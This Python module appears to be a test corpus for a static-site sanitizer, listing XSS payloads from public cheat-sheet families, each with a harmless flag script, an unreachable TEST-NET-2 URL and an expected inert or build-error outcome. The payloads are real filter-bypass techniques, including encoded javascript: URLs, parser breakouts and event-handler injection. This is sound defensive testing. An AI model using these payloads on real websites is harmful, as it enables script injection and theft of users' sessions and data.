r"""A hostile-input corpus: XSS payloads from the well-known public cheat-sheet families, as logs.

Each payload is the body (and optionally extra front matter) of one log. Tokens are filled in per
payload so that a failure names it:

* ``@JS@``  -> ``window.__xss_N=1`` (a global flag that stays unset unless the payload's script runs);
* ``@URL@`` -> ``http://198.51.100.7/xss-N`` (TEST-NET-2: never reachable; any request to it is a leak);
* ``@N@``   -> ``N``.

``outcome`` is what the build must do with it: ``INERT`` (the strict build passes and, in Chromium, no
script runs, no dialog opens, the page does not navigate and no request leaves 127.0.0.1) or
``BUILD_ERROR`` (the strict build fails with the log's ``FILE:LINE``). ``expect`` is a CSS selector that
must match on the payload's own page (what the sanitizer keeps or makes, e.g. the link that replaces
an image from another host).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass


class Outcome(enum.Enum):
    INERT = "inert"
    BUILD_ERROR = "build error"


INERT = Outcome.INERT
BUILD_ERROR = Outcome.BUILD_ERROR


@dataclass(frozen=True)
class Payload:
    n: int
    family: str
    body: str
    front: str = ""  # extra front-matter lines
    outcome: Outcome = INERT
    expect: str | None = None

    @property
    def js(self) -> str:
        return f"window.__xss_{self.n}=1"

    @property
    def url(self) -> str:
        return f"http://198.51.100.7/xss-{self.n}"

    def fill(self, text: str) -> str:
        return text.replace("@JS@", self.js).replace("@URL@", self.url).replace("@N@", str(self.n))

    @property
    def slug(self) -> str:
        return f"xss-{self.n}"

    def log(self) -> str:
        """The log file: front matter, a heading, the payload."""
        front = self.fill(self.front)
        return f"---\ndate: 2021-08-11\nslug: {self.slug}\n{front}---\n# Payload {self.n}\n\n{self.fill(self.body)}\n"

    def line_of(self, needle: str) -> int:
        """1-based line of the log on which ``needle`` (after filling) first appears."""
        for i, line in enumerate(self.log().splitlines(), 1):
            if self.fill(needle) in line:
                return i
        raise ValueError(f"{needle!r} is not in payload {self.n}")


_RAW: list[tuple[str, str, dict[str, object]]] = [
    # ------------------------------------------------------------------ script elements
    ("script", "<script>@JS@</script>", {}),
    ("script", "<SCRIPT SRC=@URL@.js></SCRIPT>", {}),
    ("script", 'text <script/xss src="@URL@.js"></script> text', {}),
    ("script", "<<script>@JS@;//<</script>", {}),
    ("script", "<script>@JS@</script\n\nafter", {}),
    ("script", '<p>a<script type="module">@JS@</script>b</p>', {}),
    # ------------------------------------------------------------------ event handlers
    ("event handler", "<img src=x onerror=@JS@>", {}),
    ("event handler", 'inline <img src="x" onerror="@JS@"> in a paragraph', {}),
    ("event handler", "<body onload=@JS@>", {}),
    ("event handler", "<details open ontoggle=@JS@><summary>s</summary>x</details>", {"expect": "details[open]"}),
    ("event handler", "<input autofocus onfocus=@JS@>", {}),
    ("event handler", '<p tabindex="1" autofocus onfocusin="@JS@">focus</p>', {}),
    ("event handler", "<video><source onerror=@JS@></video>", {}),
    ("event handler", '<img src=x onerror="&#119;indow.__xss_@N@=1">', {}),
    ("event handler", "<style>@keyframes x{}</style><div style=\"animation-name:x\" onanimationstart=\"@JS@\">a</div>",
     {}),
    ("event handler", "<img src=x onerror=@JS@//", {}),
    ("event handler", "<marquee onstart=@JS@>m</marquee>", {}),
    ("event handler", '<a href="#" onclick="@JS@" id="c@N@">click</a>', {"expect": "a[href='#']"}),
    # ------------------------------------------------------------------ javascript:, data:, vbscript: URLs
    ("URL scheme", '<a href="javascript:@JS@">x</a>', {}),
    ("URL scheme", '<a href="JaVaScRiPt:@JS@">x</a>', {}),
    ("URL scheme", '<a href="jav&#x09;ascript:@JS@">x</a>', {}),
    ("URL scheme", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;@JS@">x</a>', {}),
    ("URL scheme", '<a href="&#x6A;avascript&colon;@JS@">x</a>', {}),
    ("URL scheme", '<a href=" &#14;  javascript:@JS@">x</a>', {}),
    ("URL scheme", '<a href="java&#0000010;script:@JS@">x</a>', {}),
    ("URL scheme", "[md link](javascript:void(@JS@))", {"expect": "article a:not([href])"}),
    ("URL scheme", "[md ref][r@N@]\n\n[r@N@]: javascript:void(@JS@)", {}),
    ("URL scheme", "![md image](javascript:@JS@)", {}),
    ("URL scheme", '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==">x</a>', {}),
    ("URL scheme", '<a href="vbscript:msgbox(@N@)">x</a>', {}),
    ("URL scheme", '<img alt="svg" src="data:image/svg+xml,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot; '
                   'onload=&quot;@JS@&quot;/&gt;">', {"expect": "img[alt=svg][src^='data:image/svg+xml']"}),
    ("URL scheme", '<img src="data:text/html,<script>@JS@</script>">', {}),
    ("URL scheme", "<a href=javascript&#58;@JS@>x</a>", {}),
    # ------------------------------------------------------------------ SVG and MathML
    ("SVG/MathML", "<svg onload=@JS@>", {}),
    ("SVG/MathML", "<svg><script>@JS@</script></svg>", {}),
    ("SVG/MathML", '<svg><a xlink:href="javascript:@JS@"><text x="20" y="20">x</text></a></svg>', {}),
    ("SVG/MathML", '<svg><animate onbegin="@JS@" attributeName="x" dur="1s"/></svg>', {}),
    ("SVG/MathML", "<svg><foreignObject><img src=x onerror=@JS@></foreignObject></svg>", {}),
    ("SVG/MathML", "<math><mtext><table><mglyph><style><img src=x onerror=@JS@>", {}),
    ("SVG/MathML", '<math><maction actiontype="statusline" xlink:href="javascript:@JS@">x</maction></math>', {}),
    ("SVG/MathML", "<svg><style><img src=x onerror=@JS@></style></svg>", {}),
    ("SVG/MathML", '<svg><set attributeName="onmouseover" to="@JS@"/><image href="@URL@.png"/></svg>', {}),
    # ------------------------------------------------------------------ comment, CDATA, noscript, template, raw text
    ("parser trick", "<!--><img src=x onerror=@JS@>-->", {}),
    ("parser trick", "<![CDATA[><img src=x onerror=@JS@>]]>", {}),
    ("parser trick", '<noscript><p title="</noscript><img src=x onerror=@JS@>"></noscript>', {}),
    ("parser trick", "<template><img src=x onerror=@JS@></template><template><script>@JS@</script></template>", {}),
    ("parser trick", '<!--<img src="--><img src=x onerror=@JS@//">', {}),
    ("parser trick", '<?xml x="><img src=x onerror=@JS@>"?>', {}),
    ("parser trick", '<textarea><img title="</textarea><img src=x onerror=@JS@>"></textarea>', {}),
    ("parser trick", '<title><img title="</title><img src=x onerror=@JS@>"></title>', {}),
    ("parser trick", '<style><img title="</style><img src=x onerror=@JS@>"></style>', {}),
    ("parser trick", '<xmp><p title="</xmp><img src=x onerror=@JS@>"></xmp>', {}),
    ("parser trick", '<noembed><img title="</noembed><img src=x onerror=@JS@>"></noembed>', {}),
    ("parser trick", "<!-- x --!><img src=x onerror=@JS@>", {}),
    ("parser trick", '<details markdown="1" open ontoggle="@JS@">\n*md_in_html*\n</details>', {"expect": "details em"}),
    ("parser trick", '<div markdown="1" tabindex="1" autofocus onfocus="@JS@">\n**inner**\n</div>',
     {"expect": "article div strong"}),
    # ------------------------------------------------------------------ <base>, <form action>, <meta>
    ("base/form/meta", '<base href="@URL@/">', {}),
    ("base/form/meta", '<form action="@URL@"><input name="q"><button autofocus>go</button></form>', {}),
    ("base/form/meta", '<form><button formaction="javascript:@JS@">b</button></form>', {}),
    ("base/form/meta", '<meta http-equiv="refresh" content="0;url=@URL@">', {}),
    ("base/form/meta", '<meta http-equiv="refresh" content="0;url=javascript:@JS@">', {}),
    ("base/form/meta", '<link rel="stylesheet" href="@URL@.css"><link rel="prefetch" href="@URL@.js">', {}),
    # ------------------------------------------------------------------ <object>, <embed>, <iframe>
    ("object/embed", '<object data="@URL@.swf"></object>', {}),
    ("object/embed", '<embed src="@URL@.svg">', {}),
    ("object/embed", '<embed src="javascript:@JS@">', {}),
    ("object/embed", '<object data="javascript:@JS@"></object>', {}),
    ("object/embed", '<iframe srcdoc="&lt;script&gt;parent.__xss_@N@=1&lt;/script&gt;"></iframe>', {}),
    ("object/embed", '<iframe src="@URL@"></iframe>', {}),
    ("object/embed", '<iframe src="javascript:parent.__xss_@N@=1"></iframe>', {}),
    # ------------------------------------------------------------------ CSS
    ("CSS", '<div style="background:url(@URL@.png)">x</div>', {}),
    ("CSS", '<div style="background:u\\rl(@URL@.png)">x</div>', {}),
    ("CSS", '<div style="background-image:\\75\\72\\6C(@URL@.png)">x</div>', {}),
    ("CSS", '<div style="width:expression(@JS@)">x</div>', {}),
    ("CSS", "<style>@import '@URL@.css';</style>", {}),
    ("CSS", "<style>body{background:url(@URL@.png)}</style>", {}),
    ("CSS", '<div style="behavior:url(@URL@.htc)">x</div>', {}),
    ("CSS", '<span style="color:red;background:url(//198.51.100.7/xss-@N@.png)">x</span>', {}),
    ("CSS", 'para with style\n{: style="background:url(@URL@.png)" }', {}),
    ("CSS", '<span style="color: #c00; text-align: center">kept</span>', {"expect": "span[style*='#c00']"}),
    # ------------------------------------------------------------------ media from another host
    ("remote media", '<img src="@URL@.png" alt="tracker">', {"expect": "a.sl-external-media[href$='xss-@N@.png']"}),
    ("remote media", "![tracker](@URL@.png)", {"expect": "a.sl-external-media[href$='xss-@N@.png']"}),
    ("remote media", '<video src="@URL@.mp4" autoplay muted></video>',
     {"expect": "a.sl-external-media[href$='xss-@N@.mp4']"}),
    ("remote media", '<audio autoplay><source src="//198.51.100.7/xss-@N@.mp3"></audio>',
     {"expect": "a.sl-external-media[href$='xss-@N@.mp3']"}),
    ("remote media", '<img src="\\\\198.51.100.7\\xss-@N@.png">', {"expect": "a.sl-external-media"}),
    ("remote media", '<img src="x.png" srcset="@URL@.png 1x">', {}),
    ("remote media", '<video controls poster="@URL@.png"></video>', {}),
    # ------------------------------------------------------------------ Markdown, attr_list, the theme's names
    ("Markdown", 'para\n{: tabindex="1" autofocus onfocus="@JS@" }', {}),
    ("Markdown", '## Heading {: tabindex="1" autofocus onfocus="@JS@" }', {}),
    ("Markdown", '[x](#ok){: autofocus onfocus="@JS@" }', {}),
    ("Markdown", '[x](#ok){: href="javascript:void(@JS@)" }', {}),
    ("Markdown", "<javascript:@JS@>", {}),
    ("Markdown", "Footnote[^1].\n\n[^1]: <img src=x onerror=@JS@>", {"expect": ".footnote"}),
    ("Markdown", '!!! note "<img src=x onerror=@JS@>"\n    body', {"expect": ".admonition"}),
    ("Markdown", "| a |\n|---|\n| <img src=x onerror=@JS@> |", {"expect": "table td"}),
    ("Markdown", "`<img src=x onerror=@JS@>` stays code", {"expect": "code"}),
    ("Markdown", "## <img src=x onerror=@JS@> heading\n\ntext", {}),
    ("Markdown", '[x](https://example.org "<img src=x onerror=@JS@>")', {"expect": "a[title]"}),
    ("Markdown", '<div id="__config">{"base":"@URL@/","features":[],"search":"@URL@/w.js","translations":{}}</div>',
     {}),
    ("Markdown", "<autoref identifier='x\" tabindex=\"1\" autofocus onfocus=\"@JS@' optional>y</autoref>", {}),
    ("Markdown", '<span class="sl-status sl-verified">✓ verified</span>', {"expect": "article span:not(.sl-status)"}),
    ("Markdown", "<img src=x onerror=@JS@>\n\n<b>" + "".join(f"&#2;wzxhzdk&#58;{i}&#3;" for i in range(8)) + "</b>",
     {}),  # forged stash placeholders: raw_html would insert the raw block
    # ------------------------------------------------------------------ front matter
    ("front matter", "body", {"front": "title: '<img src=x onerror=@JS@>'\n"}),
    ("front matter", "body", {"front": "description: '\"><img src=x onerror=@JS@>'\n"}),
    ("front matter", "body", {"front": "title: '</title><script>@JS@</script>'\n"}),
    ("front matter", "body", {"front": "categories:\n  - '<img src=x onerror=@JS@>'\n"}),
    # ------------------------------------------------------------------ executed-example output
    ("example output", '```python exec="1" html="1"\nprint("<img src=x onerror=@JS@>")\n```', {}),
    ("example output", '```python exec="1" html="1"\nprint("<script>@JS@</script><b>bold</b>")\n```',
     {"expect": "article b"}),
    ("example output", '```python exec="1" html="1"\nprint("<!--><img src=x onerror=@JS@>-->")\n```', {}),
    ("example output", '```python exec="1" html="1"\nprint(\'<img src="@URL@.png" alt="remote">\')\n```',
     {"expect": "a.sl-external-media[href$='xss-@N@.png']"}),
    ("example output", '```python exec="1" html="1"\nprint(\'<base href="@URL@/"><meta http-equiv="refresh" '
                       'content="0;url=@URL@">\')\n```', {}),
    ("example output", '```python exec="1"\nprint("<svg onload=@JS@></svg> and **Markdown**")\n```',
     {"expect": "article strong"}),
    ("example output", '```python exec="1" result="text"\nprint("<script>@JS@</script>")\n```', {"expect": "pre code"}),
    ("example output", '<img src=x onerror=@JS@>\n\n```python exec="1" html="1"\n'
                       'print("".join(f"\\x02wzxhzdk:{i}\\x03" for i in range(8)))\n```', {}),
    # ------------------------------------------------------------------ formulas: inert where KaTeX escapes
    ("KaTeX", r"$`\text{<img src=x onerror=alert('xss-@N@')>}`$", {"expect": "article .katex"}),
    ("KaTeX", r"$`\operatorname{<script>alert('xss-@N@')</script>}`$", {"expect": "article .katex"}),
    ("KaTeX", '<span title="$`x`$">formula in an attribute</span>', {}),
    # ------------------------------------------------------------------ formulas: KaTeX commands are build errors
    ("KaTeX", r"$`\href{javascript:@JS@}{x}`$", {"outcome": BUILD_ERROR}),
    ("KaTeX", r"$`\url{javascript:@JS@}`$", {"outcome": BUILD_ERROR}),
    ("KaTeX", r"$`\htmlId{xss@N@}{x}`$", {"outcome": BUILD_ERROR}),
    ("KaTeX", r"$`\includegraphics{@URL@.png}`$", {"outcome": BUILD_ERROR}),
    ("KaTeX", "```math\n\\href{@URL@}{x}\n```", {"outcome": BUILD_ERROR}),
    ("KaTeX", r"$`\htmlClass{sl-verified}{x}`$", {"outcome": BUILD_ERROR}),
    ("KaTeX", r"$`\htmlStyle{background:url(@URL@.png)}{x}`$", {"outcome": BUILD_ERROR}),
    ("KaTeX", r"$`\htmlData{onload=xss@N@}{x}`$", {"outcome": BUILD_ERROR}),
    ("KaTeX", r"$`\def\h{\href}\h{javascript:@JS@}{y}`$", {"outcome": BUILD_ERROR}),
    ("KaTeX", r"$`\includegraphics[height=1em]{/xss-@N@.png}`$", {"outcome": BUILD_ERROR}),
]  # fmt: skip

PAYLOADS: list[Payload] = [Payload(n, family, body, **extra) for n, (family, body, extra) in enumerate(_RAW, 1)]  # type: ignore[arg-type]
